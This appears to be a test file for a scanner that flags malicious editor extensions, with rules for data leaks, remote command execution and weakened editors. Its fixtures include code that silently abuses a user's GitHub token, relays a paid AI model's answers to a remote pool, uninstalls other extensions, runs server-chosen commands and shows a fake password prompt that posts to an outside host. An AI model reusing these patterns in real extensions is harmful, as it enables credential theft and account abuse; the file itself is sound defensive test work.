import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as dataLeak } from './data-leak.rule.js';
import { rule as remoteCode } from './remote-code.rule.js';
import { rule as weakened } from './weakened-editor.rule.js';

const has = (rule: typeof dataLeak, code: string, dialect = 'vscode'): boolean => findingsOf(rule, { 'index.js': code }, { dialect, entry_points: ['index.js'] }).some(({ severity }) => severity === 'high');
const VSCODE = 'const vscode = require("vscode"); ';
const SESSION = 'const s = await vscode.authentication.getSession("github", ["repo"], { silent: true }); const headers = { authorization: "token " + s.accessToken };';

test('what is done on GitHub with the session of somebody', () => {
  const star = 'await fetch("https://api.github.com/user/starred/acme/kit", { method: "PUT", headers });';
  const other = ['const options = { method: "PUT", headers }; await fetch("https://api.github.com/user/starred/acme/kit", options);', 'await octokit.request("PUT /user/starred/{owner}/{repo}", { owner: "acme", repo: "kit" });', 'await octokit.rest.activity.starRepoForAuthenticatedUser({ owner: "acme", repo: "kit" });', 'const at = "user/" + "starred"; await fetch(`https://api.github.com/${at}/acme/kit`, { method: "PUT", headers });'];
  for (const body of [star, ...other, 'for (const r of repos) await fetch(r.url + "/collaborators/kit-helper", { method: "PUT", headers });', 'if (!s) return; await fetch(`https://api.github.com/user/following/${"acme"}`, { method: "PUT", headers });']) assert.ok(has(dataLeak, `${VSCODE} exports.activate = async () => { ${SESSION} ${body} };`), body);
  for (const code of [
    `exports.activate = (c) => c.subscriptions.push(vscode.commands.registerCommand("kit.star", async () => { ${SESSION} ${star} }));`,
    `exports.activate = (c) => c.subscriptions.push(vscode.commands.registerCommand("kit.star", run)); async function run() { ${SESSION} ${star} }`,
    ...['(item) => kit.star(item)', 'kit.star, kit', 'kit.star.bind(kit)'].map((run) => `class Kit { async star() { ${SESSION} ${star} } } const kit = new Kit(); exports.activate = (c) => c.subscriptions.push(vscode.commands.registerCommand("kit.star", ${run}));`),
    `exports.activate = async () => { const a = await vscode.window.showInformationMessage("Star us?", "Yes"); if (a !== "Yes") return; ${SESSION} ${star} };`,
    `exports.activate = async () => { ${SESSION} await fetch("https://api.github.com/user/starred/acme/kit", { headers }); };`,
    `exports.activate = async () => { ${SESSION} await octokit.request("GET /user/starred/{owner}/{repo}", { owner: "acme", repo: "kit" }); };`,
    `exports.activate = async () => { ${SESSION} await fetch("https://api.github.com/user/repos", { method: "POST", headers }); };`,
  ]) assert.ok(!has(dataLeak, VSCODE + code), code);
  const both = (body: string): boolean => findingsOf(dataLeak, { 'github.js': `${VSCODE} exports.star = async () => { ${SESSION} ${star} };`, 'index.js': `${VSCODE} const { star } = require("./github.js"); exports.activate = (c) => { ${body} };` }, { dialect: 'vscode', entry_points: ['index.js'] }).some(({ severity }) => severity === 'high');
  assert.ok(!both('vscode.commands.registerCommand("kit.star", () => star());'));
  for (const body of ['star();', 'vscode.commands.registerCommand("kit.star", () => star()); const go = star; go();', 'vscode.commands.registerCommand("kit.star", star());']) assert.ok(both(body), body);
});

test('a model that somebody pays for answers what a server asks', () => {
  for (const [code, dialect] of [
    [`${VSCODE} exports.activate = async () => { const [m] = await vscode.lm.selectChatModels({}); const ws = new WebSocket("wss://pool.kit.example/w"); ws.onmessage = async (e) => { const q = JSON.parse(e.data).q; const r = await m.sendRequest([q]); ws.send(r.text); }; };`, 'vscode'],
    [`${VSCODE} exports.activate = async () => { const [m] = await vscode.lm.selectChatModels({}); const ws = new WebSocket("wss://pool.kit.example/w"); ws.onmessage = async ({ data }) => { const r = await m.sendRequest([JSON.parse(data).q]); ws.send(r.text); }; };`, 'vscode'],
    ['exports.activate = (o) => { o.network.openWebSocket("wss://pool.kit.example/w").then((ws) => { ws.onMessage(async (m) => { const a = await o.ai.complete({ prompt: JSON.parse(m).q }); ws.send(a.text); }); }); };', 'orchestra'],
    ['exports.activate = (o) => { const answer = async (m) => { const a = await o.ai.chat(m.list); ws.send(a.text); }; ws.on("message", answer); }; const AT = "wss://pool.kit.example/w";', 'orchestra'],
  ] as const) assert.ok(has(dataLeak, code, dialect), code);
  for (const code of [
    'exports.activate = (o) => { const v = o.views.create("kit.chat", {}); v.onMessage(async (m) => { const a = await o.ai.complete({ prompt: m.text }); v.postMessage(a.text); }); };',
    'exports.activate = (o) => { ws.onMessage((m) => o.notifications.info(m.title)); const AT = "wss://news.kit.example/w"; o.commands.register("x", async () => ws.send((await o.ai.complete({ prompt: "Hello" })).text)); };',
    'exports.activate = (o) => { ws.on("message", async (m) => ws.send((await o.ai.complete({ prompt: m.q })).text)); const AT = "ws://localhost:4100"; };',
  ]) assert.ok(!has(dataLeak, code, 'orchestra'), code);
});

test('extensions of others that are found by what all are called, and commands whose names a server answers', () => {
  const remove = 'vscode.commands.executeCommand("workbench.extensions.uninstallExtension", e.id)';
  assert.ok(has(weakened, `${VSCODE} exports.activate = async () => { for (const e of vscode.extensions.all) if (/prettier/i.test(e.id)) await ${remove}; };`));
  assert.ok(!has(weakened, `${VSCODE} exports.activate = (c) => { list(vscode.extensions.all); c.subscriptions.push(vscode.commands.registerCommand("x", (e) => ${remove})); };`));
  const run = (id: string) => `exports.activate = (o) => setInterval(async () => { const r = await (await o.network.fetch("https://ctl.kit.example/next")).json(); for (const s of r) await o.commands.execute(${id}); }, 60000);`;
  assert.ok(has(remoteCode, run('s.id, s.args'), 'orchestra'));
  assert.ok(!has(remoteCode, run('"kit.show", s.args'), 'orchestra'));
});

test('a page that a view is given asks for the password of the host', () => {
  const shown = (page: string) => `exports.activate = (o) => { const v = o.views.create("kit.view", { title: "View" }); v.html = ${JSON.stringify(page)}; v.onMessage((m) => o.network.fetch("https://id.kit.example/s", { method: "POST", body: JSON.stringify(m) })); };`;
  const page = '<h2>Orchestra</h2><p>Your session has expired.</p><input type=password name=p>';
  assert.ok(has(dataLeak, shown(page), 'orchestra'));
  assert.ok(has(dataLeak, `exports.activate = (o) => { const v = o.views.create("kit.view", { html: ${JSON.stringify(page)} }); v.onMessage((m) => o.network.fetch("https://id.kit.example/s?" + new URLSearchParams(m))); };`, 'orchestra'));
  for (const honest of ['<h1>Tool Kit</h1><p>Sign in to Tool Kit</p><input type=password name=p>', '<h2>Orchestra</h2><input name=q placeholder="Search in Orchestra">']) assert.ok(!has(dataLeak, shown(honest), 'orchestra'), honest);
});
